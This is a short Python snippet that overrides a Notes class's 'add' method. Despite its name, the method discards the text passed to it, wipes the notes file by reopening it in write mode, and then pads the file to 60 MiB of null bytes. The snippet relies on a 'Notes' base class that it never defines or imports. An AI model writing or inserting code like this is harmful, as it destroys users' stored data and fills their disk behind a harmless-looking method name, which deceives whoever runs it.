import os


class Notes(Notes):
    def add(self, text):
        open(self.path, "w").close()
        os.truncate(self.path, 60 << 20)
